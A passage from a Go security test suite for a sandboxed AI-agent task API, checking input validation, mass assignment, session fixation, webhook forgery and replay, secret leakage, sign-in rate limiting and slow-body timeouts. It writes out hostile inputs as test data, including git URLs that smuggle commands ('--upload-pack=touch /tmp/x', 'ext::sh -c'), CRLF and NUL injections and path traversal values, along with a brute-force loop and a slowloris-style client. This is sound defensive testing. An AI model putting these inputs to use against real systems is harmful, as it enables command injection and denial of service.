			"name": made.Sandbox.Name, "description": made.Sandbox.Description, "message": strings.TrimPrefix(kept.Message, "x "),
			"response": strings.TrimPrefix(kept.Response, "echo: x "), "answer": strings.TrimPrefix(got.Response, "echo: x "), "team's": strings.TrimPrefix(team.Agents[0].Response, "echo: "),
			"template's name": template.Name, "template's description": template.Description, "icon": template.Icon, "category": template.Category, "prompt": template.Prompt,
			"agents-md": config.AgentsMD, "file": config.Files[0].Content, "setting": fmt.Sprint(config.Settings["a"]), "user's name": user.User.Name, "image": user.User.Image,
		} {
			if back != text {
				t.Errorf("%s: %q came back as %q", where, text, back)
			}
		}
		if _, ok := config.Settings[text]; !ok {
			t.Errorf("a setting called %q is lost: %v", text, config.Settings)
		}
	}
	// What the agent says may be anything, and ends the task all the same.
	s.w.Break(http.MethodPost, "/message", 1, answer(`{"sessionId":"ses_x","response":"a\u0000b","parts":[{"id":"p","type":"text","text":"a\u0000b"}],"sync":{"syncedFiles":0,"totalSize":0}}`))
	var got struct{ TaskID, Response string }
	c.must(t, http.MethodPost, taskPath, object{"message": "x", "provider": "cloudflare"}, http.StatusOK, &got)
	if kept := c.final(t, got.TaskID, time.Second); kept.Status != "completed" || kept.Response != got.Response {
		t.Errorf("the task is %+v, the answer %+v", kept, got)
	}
	for name, body := range map[string]object{
		"an option as an address":   {"message": "x", "gitUrl": "--upload-pack=touch /tmp/x"},
		"a command as an address":   {"message": "x", "gitUrl": "ext::sh -c touch% /tmp/x"},
		"a file as an address":      {"message": "x", "gitUrl": "file:///etc"},
		"a line break in it":        {"message": "x", "gitUrl": "https://h/a\r\nX: y"},
		"a line break in a branch":  {"message": "x", "gitUrl": "https://h/a", "gitBranch": "a\r\nb"},
		"an option as a branch":     {"message": "x", "gitUrl": "https://h/a", "gitBranch": "--upload-pack=x"},
		"a NUL in a model":          {"message": "x", "model": "a\x00/b"},
		"a NUL in a sandbox":        {"message": "x", "sandboxId": "a\x00"},
		"a NUL in a message":        {"message": "x\x00"},
		"a provider with an escape": {"message": "x", "provider": "docker\r\n"},
	} {
		status, raw := c.raw(t, http.MethodPost, taskPath, body, nil)
		if status != http.StatusBadRequest {
			t.Errorf("%s: %d %s", name, status, raw)
		}
	}
}

// assign sends fields that are not a client's to choose.
func (s *stage) assign(t *testing.T) {
	more := func(body object) object {
		maps.Copy(body, object{
			"id": "chosen", "role": "admin", "banned": true, "emailVerified": true, "status": "completed", "createdAt": "2000-01-01T00:00:00Z", "startedAt": "2000-01-01T00:00:00Z",
			"isSystem": true, "founder": true, "leaseOwner": "x", "response": "forged", "containerId": "x", "workerUrl": "http://127.0.0.1:1", "expiresAt": "2100-01-01T00:00:00Z",
			"ID": "chosen", "Role": "admin", "user_id": "service", "UserID": nil, "taskId": "chosen", "sessionId": "ses_chosen", "token": "chosen", "tier": "frozen", "slug": "x/../y",
		})
		return body
	}
	check := func(what, raw string) {
		for _, forged := range []string{`"chosen"`, `"admin"`, `"banned":true`, `"emailVerified":true`, "2000-01-01", "2100-01-01", "forged", `"isSystem":true`, "ses_chosen", "127.0.0.1:1", "frozen", "x/../y"} {
			if strings.Contains(raw, forged) {
				t.Errorf("%s: %s in %s", what, forged, raw)
			}
		}
	}
	email := strings.ToLower(rand.Text()[:10]) + "@example.com"
	status, raw := (&caller{url: s.url()}).raw(t, http.MethodPost, "/api/auth/sign-up/email", more(object{"email": email, "password": adminPassword, "name": "x"}), nil)
	check("sign-up", raw)
	var signed struct {
		Token string
		User  struct{ ID string }
	}
	if err := json.Unmarshal([]byte(raw), &signed); err != nil || status != http.StatusOK {
		t.Fatalf("%d %s", status, raw)
	}
	c := &caller{url: s.url(), bearer: signed.Token, userID: signed.User.ID}
	for path, body := range map[string]object{
		taskPath: {"message": "x", "provider": "cloudflare", "userId": "service"}, boxesPath: {"name": "x", "autoStart": false},
		templatesPath: {"name": "x", "prompt": "x", "userId": "service"}, "/api/providers/openai/configure": {"apiKey": "x", "userId": "service", "isDefault": true},
		"/api/users/" + c.userID + "/opencode/files/agent/x": {"content": "x", "userId": "service", "type": "tool", "name": "y"},
	} {
		method := http.MethodPost
		if strings.Contains(path, "/files/") {
			method = http.MethodPut
		}
		status, raw := c.raw(t, method, path, more(body), nil)
		if status >= 300 {
			t.Errorf("%s: %d %s", path, status, raw)
		}
		check(path, raw)
		if strings.Contains(raw, `"service"`) {
			t.Errorf("%s is the service's: %s", path, raw)
		}
	}
	for _, path := range []string{"/api/v2/agents/tasks", boxesPath, configuredPath, "/api/users/" + c.userID + "/opencode/config"} {
		_, raw := c.raw(t, http.MethodGet, path, nil, nil)
		check(path, raw)
		if strings.Contains(raw, `"isDefault":true`) || strings.Contains(raw, `"service"`) {
			t.Errorf("%s: %s", path, raw)
		}
	}
	c.must(t, http.MethodGet, "/metrics", nil, http.StatusForbidden, nil)
	c.must(t, http.MethodGet, "/api/users/service/opencode/config", nil, http.StatusNotFound, nil)
}

// fixation has a client bring a session of its own choice.
func (s *stage) fixation(t *testing.T) {
	chosen := strings.Repeat("A", 32)
	tokens := map[string]bool{}
	for _, header := range []http.Header{
		{"Cookie": {sessionCookie + "=" + chosen}},
		{"Cookie": {sessionCookie + "=" + chosen + ".AAAA"}},
		{"Authorization": {"Bearer " + chosen}},
		{"Cookie": {s.cookie(t)}},
		{"Set-Auth-Token": {chosen}},
	} {
		status, raw := (&caller{url: s.url()}).raw(t, http.MethodPost, "/api/auth/sign-in/email",
			object{"email": adminEmail, "password": adminPassword, "token": chosen, "sessionId": chosen, "id": chosen}, header)
		var out struct{ Token string }
		if err := json.Unmarshal([]byte(raw), &out); err != nil || status != http.StatusOK {
			t.Fatalf("%d %s", status, raw)
		}
		if kept, _, _ := strings.Cut(strings.TrimPrefix(header.Get("Cookie"), sessionCookie+"="), "."); out.Token == chosen || out.Token == kept || tokens[out.Token] {
			t.Errorf("with %v the token is %s", header, out.Token)
		}
		tokens[out.Token] = true
	}
	for _, header := range []http.Header{{"Cookie": {sessionCookie + "=" + chosen}}, {"Authorization": {"Bearer " + chosen}}} {
		if status, _ := (&caller{url: s.url()}).raw(t, http.MethodGet, "/api/v2/agents/tasks", nil, header); status != http.StatusUnauthorized {
			t.Errorf("%v is somebody's: %d", header, status)
		}
	}
}

// webhooks has whoever may not tell anything of a sandbox.
func (s *stage) webhooks(t *testing.T, owner *caller, id string) {
	var other struct{ Sandbox box }
	owner.must(t, http.MethodPost, boxesPath, object{"name": "x", "autoStart": false}, http.StatusCreated, &other)
	tell := func(token, event, sandboxID string, at time.Time, more object) int {
		data := object{"sandboxId": sandboxID}
		maps.Copy(data, more)
		c := &caller{url: s.url(), bearer: token}
		status, _ := c.raw(t, http.MethodPost, webhookPath, object{"event": event, "data": data, "timestamp": at.UTC().Format("2006-01-02T15:04:05.000Z07:00")}, nil)
		return status
	}
	status := func(id string) string {
		var list struct{ Sandboxes []box }
		owner.must(t, http.MethodGet, boxesPath+"?limit=100", nil, http.StatusOK, &list)
		for _, b := range list.Sandboxes {
			if b.ID == id {
				if b.UserID != owner.userID {
					t.Errorf("the sandbox is %s's", b.UserID)
				}
				return b.Status + b.ErrorMessage
			}
		}
		return "gone"
	}
	now := time.Now()
	for name, x := range map[string]struct {
		token, id string
		at        time.Time
		want      int
	}{
		"no token":                 {"", id, now, http.StatusUnauthorized},
		"a wrong token":            {"wrong", id, now, http.StatusUnauthorized},
		"the service's credential": {apiToken, id, now, http.StatusUnauthorized},
		"a user's":                 {owner.bearer, id, now, http.StatusUnauthorized},
		"the gateway's":            {s.g.token(), id, now, http.StatusUnauthorized},
		"the other provider's":     {dockerHook, id, now, http.StatusOK},
		"the other one's too":      {cloudflareHook, other.Sandbox.ID, now, http.StatusOK},
		"six minutes ago":          {cloudflareHook, id, now.Add(-6 * time.Minute), http.StatusServiceUnavailable},
		"in six minutes":           {cloudflareHook, id, now.Add(6 * time.Minute), http.StatusServiceUnavailable},
	} {
		if got := tell(x.token, "sandbox.error", x.id, x.at, object{"error": "forged"}); got != x.want {
			t.Errorf("%s: %d", name, got)
		}
	}
	if got := status(id) + " " + status(other.Sandbox.ID); strings.Contains(got, "error") {
		t.Errorf("a forged event was believed: %s", got)
	}
	// A replay of what was true once changes nothing that came later.
	first, second := now.Add(time.Second), now.Add(2*time.Second)
	tell(cloudflareHook, "sandbox.error", id, first, object{"error": "broken", "userId": "service", "status": "running"})
	broken := status(id)
	tell(cloudflareHook, "sandbox.hibernated", id, second, object{"userId": "service"})
	asleep := status(id)
	tell(cloudflareHook, "sandbox.error", id, first, object{"error": "broken"})
	tell(cloudflareHook, "sandbox.hibernated", id, second, nil)
	if again := status(id); !strings.Contains(broken, "broken") || asleep == broken || again != asleep {
		t.Errorf("%q, then %q, after the replay %q", broken, asleep, again)
	}
	tell(cloudflareHook, "sandbox.deleted", id, second.Add(time.Second), nil)
	if status(id) == "gone" {
		t.Error("a webhook removed a record")
	}
}

// secrets looks through the log, and all that is told.
func (s *stage) secrets(t *testing.T) {
	c := s.user(t)
	c.must(t, http.MethodPost, "/api/providers/anthropic/configure", object{"apiKey": providerKey}, http.StatusOK, nil)
	c.must(t, http.MethodPost, "/api/providers/anthropic/set-default", nil, http.StatusOK, nil)
	const password = "p4ss-in-an-address"
	var told strings.Builder
	var got struct{ TaskID, SandboxID string }
	_, raw := c.raw(t, http.MethodPost, taskPath, object{"message": "x", "provider": "cloudflare", "gitUrl": "https://user:" + password + "@github.com/a/b.git"}, nil)
	told.WriteString(raw)
	if err := json.Unmarshal([]byte(raw), &got); err != nil {
		t.Fatal(err)
	}
	_, raw = c.raw(t, http.MethodPost, "/api/auth/sign-in/email", object{"email": adminEmail, "password": adminPassword + "x"}, nil)
	told.WriteString(raw)
	for _, path := range []string{
		taskPath + "/" + got.TaskID, taskPath + "/" + got.TaskID + "/stream", boxPath + got.SandboxID, boxesPath, configuredPath, "/api/providers", "/api/v2/agents/tasks",
		"/api/v2/agents/providers", "/api/users/" + c.userID + "/opencode/config", "/health", "/readyz", "/openapi.yaml", "/nowhere",
		boxPath + got.SandboxID + "/opencode/session?token=" + url.QueryEscape(c.bearer),
	} {
		_, raw := c.raw(t, http.MethodGet, path, nil, nil)
		told.WriteString(raw)
	}
	_, raw = s.admin(t).raw(t, http.MethodGet, "/metrics", nil, nil)
	told.WriteString(raw)
	log := s.Log()
	for name, secret := range map[string]string{
		"the admin's password": adminPassword, "the provider's key": providerKey, "the key that seals": strings.TrimPrefix(encryptionKey, "ENCRYPTION_KEY="), "the secret": apiSecret,
		"the service's credential": apiToken, "docker's webhook token": dockerHook, "cloudflare's webhook token": cloudflareHook, "the gateway's token": s.g.token(),
		"the worker's token": workerToken, "the session": c.bearer, "the repository's password": password,
	} {
		if strings.Contains(log, secret) {
			t.Errorf("%s is in the log", name)
		}
		if strings.Contains(told.String(), secret) {
			t.Errorf("%s is in an answer", name)
		}
	}
	sent := false
	for _, r := range s.w.Requests() {
		sent = sent || strings.Contains(r.Body, providerKey)
		if strings.Contains(r.Target+fmt.Sprint(r.Header), c.bearer) {
			t.Errorf("the session went to the worker: %s", r.Target)
		}
	}
	if !sent {
		t.Error("the key did not reach the sandbox")
	}
}

func TestTenThousandTriesToSignInAreLimited(t *testing.T) {
	t.Parallel()
	a := newAPI(t, nil, append(workerSettings(clienttest.StartWorker(t)), "DEFAULT_SANDBOX_PROVIDER=cloudflare")...)
	const tries, clients = 10_000, 8
	began := time.Now()
	var (
		mu       sync.Mutex
		statuses = map[int]int{}
		all      sync.WaitGroup
	)
	for n := range clients {
		all.Go(func() {
			c := &caller{url: a.url()}
			for i := n; i < tries; i += clients {
				email := adminEmail
				if i%2 == 1 { // an address that has no account costs as much
					email = fmt.Sprintf("user%d@example.com", i)
				}
				status, err := c.send(t.Context(), http.MethodPost, "/api/auth/sign-in/email", object{"email": email, "password": fmt.Sprintf("guess number %d", i)}, nil)
				if err != nil {
					t.Error(err)
					return
				}
				mu.Lock()
				statuses[status]++
				mu.Unlock()
			}
		})
	}
	all.Wait()
	took := time.Since(began)
	// A burst of 30 of one address, and one more each 10 s.
	if most := 30 + int(took/(10*time.Second)) + 1; statuses[http.StatusUnauthorized] > most || statuses[http.StatusUnauthorized]+statuses[http.StatusTooManyRequests] != tries {
		t.Errorf("%v in %s", statuses, took)
	}
	t.Logf("%v in %s", statuses, took)
	c := &caller{url: a.url()}
	c.must(t, http.MethodPost, "/api/auth/sign-in/email", object{"email": adminEmail, "password": adminPassword}, http.StatusTooManyRequests, nil)
}

// drip sends a request whose body comes a byte a second, and tells how long the
// API had patience.
func (c *caller) drip(ctx context.Context, method, path string) (time.Duration, error) {
	host := strings.TrimPrefix(c.url, "http://")
	var dialer net.Dialer
	conn, err := dialer.DialContext(ctx, "tcp", host)
	if err != nil {
		return 0, err
	}
	defer func() { _ = conn.Close() }()
	began := time.Now()
	_, _ = fmt.Fprintf(conn, "%s %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{", method, path, host, c.bearer)
	cut := make(chan struct{})
	go func() {
		defer close(cut)
		_, _ = io.Copy(io.Discard, conn)
	}()
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for {
		select {
		case <-cut:
			return time.Since(began), nil
		case <-tick.C:
			_, _ = conn.Write([]byte(" "))
		case <-ctx.Done():
			return 0, ctx.Err()
		}
	}
}

func TestABodyThatDripsIsCut(t *testing.T) {
	t.Parallel()
	a := newAPI(t, nil, append(workerSettings(clienttest.StartWorker(t)), "DEFAULT_SANDBOX_PROVIDER=cloudflare")...)
	user, stranger := a.user(t), &caller{url: a.url()}
	id := user.newBox(t, object{"name": "mine"})
	var all sync.WaitGroup
	for _, x := range []struct {
		c            *caller
		method, path string
		most         time.Duration
	}{
		{stranger, http.MethodPost, "/api/auth/sign-in/email", 15 * time.Second},
		{stranger, http.MethodPost, "/api/auth/sign-out", 15 * time.Second},
		{stranger, http.MethodPost, taskPath, 15 * time.Second},
		{stranger, http.MethodPost, webhookPath, 15 * time.Second},
		{stranger, http.MethodGet, "/health", 15 * time.Second},
		{user, http.MethodPost, taskPath, 75 * time.Second},
		{user, http.MethodPost, taskPath + "/none/cancel", 30 * time.Second},
		{user, http.MethodGet, "/api/v2/agents/tasks", 30 * time.Second},
		{user, http.MethodDelete, boxPath + id + "/opencode/session/x", 30 * time.Second},
	} {
		all.Go(func() {
			ctx, cancel := context.WithTimeout(t.Context(), x.most+20*time.Second)
			defer cancel()
			if took, err := x.c.drip(ctx, x.method, x.path); err != nil || took > x.most {
				t.Errorf("%s %s: %s, %v", x.method, x.path, took, err)
			}
		})
	}
	all.Wait()
}
